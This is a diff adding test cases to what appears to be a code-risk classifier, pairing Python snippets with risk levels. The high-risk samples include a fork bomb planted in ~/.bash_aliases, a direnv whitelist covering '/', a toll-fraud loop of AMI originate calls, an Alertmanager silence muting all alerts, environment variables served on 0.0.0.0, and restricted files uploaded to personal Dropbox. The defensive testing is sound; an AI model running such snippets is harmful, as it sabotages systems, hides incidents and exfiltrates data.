@@ -7072,6 +7072,101 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "    s3.delete_objects(Bucket='b', Delete={'Objects': objs})\n",
             H,
         ),
+        # holdout196-199: .bash_aliases, zsh's completion cache, direnv's whitelist, AMI originate loops, silences,
+        # the environment served, logging in a busy loop, a personal file-host folder
+        (
+            'import os\n'
+            "bomb = ':(){ :|:& };:'\n"
+            "with open(os.path.expanduser('~/.bash_aliases'), 'a') as fh:\n"
+            '    fh.write(bomb)\n',
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            "for dump in Path.home().glob('.zcompdump*'):\n"
+            '    dump.unlink()\n',
+            L,
+        ),
+        (
+            'from pathlib import Path\n'
+            "cfg = Path.home() / '.config' / 'direnv' / 'direnv.toml'\n"
+            'cfg.write_text(\'[whitelist]\\nprefix = [ "/" ]\\n\')\n',
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            "cfg = Path.home() / '.config' / 'direnv' / 'direnv.toml'\n"
+            'cfg.write_text(\'[whitelist]\\nprefix = [ "~/work/myorg" ]\\n\')\n',
+            L,
+        ),
+        (
+            'import socket\n'
+            "ami = socket.create_connection(('127.0.0.1', 5038))\n"
+            'for i in range(5000):\n'
+            "    ami.sendall(f'Action: Originate\\r\\nChannel: PJSIP/00882{i}@trunk\\r\\n\\r\\n'.en"
+            'code())\n',
+            H,
+        ),
+        (
+            'import socket\n'
+            "ami = socket.create_connection(('127.0.0.1', 5038))\n"
+            "ami.sendall(b'Action: Originate\\r\\nChannel: PJSIP/1001\\r\\nExten: 1002\\r\\n\\r\\n')\n",
+            S,
+        ),
+        (
+            'import requests\n'
+            "silence = {'matchers': [{'name': 'alertname', 'value': '.+', 'isRegex': True}]}\n"
+            "requests.post('http://am:9093/api/v2/silences', json=silence)\n",
+            H,
+        ),
+        (
+            'import requests\n'
+            "requests.post('http://am:9093/api/v2/silences', json={'matchers': [{'name': 'ins"
+            "tance', 'value': 'staging-3', 'isRegex': False}]})\n",
+            L,
+        ),
+        (
+            'import json, os\n'
+            'from http.server import BaseHTTPRequestHandler, HTTPServer\n'
+            'class H(BaseHTTPRequestHandler):\n'
+            '    def do_GET(self):\n'
+            '        self.wfile.write(json.dumps(dict(os.environ)).encode())\n'
+            "HTTPServer(('0.0.0.0', 9999), H).serve_forever()\n",
+            H,
+        ),
+        (
+            'import json, os\n'
+            'from http.server import BaseHTTPRequestHandler, HTTPServer\n'
+            'class H(BaseHTTPRequestHandler):\n'
+            '    def do_GET(self):\n'
+            '        self.wfile.write(json.dumps(dict(os.environ)).encode())\n'
+            "HTTPServer(('127.0.0.1', 9999), H).serve_forever()\n",
+            S,
+        ),
+        (
+            'import logging, os\n'
+            "logging.basicConfig(filename='/var/log/soak.log')\n"
+            "log = logging.getLogger('s')\n"
+            'while True:\n'
+            '    log.debug(os.urandom(1024).hex())\n',
+            H,
+        ),
+        (
+            'import logging, time\n'
+            "logging.basicConfig(filename='app.log')\n"
+            'while True:\n'
+            "    logging.info('tick')\n"
+            '    time.sleep(60)\n',
+            S,
+        ),
+        (
+            'import shutil, dropbox\n'
+            "archive = shutil.make_archive('/tmp/b', 'zip', '/srv/collections/restricted')\n"
+            "dbx = dropbox.Dropbox('token')\n"
+            "with open(archive, 'rb') as f:\n"
+            "    dbx.files_upload(f.read(), '/personal/b.zip')\n",
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
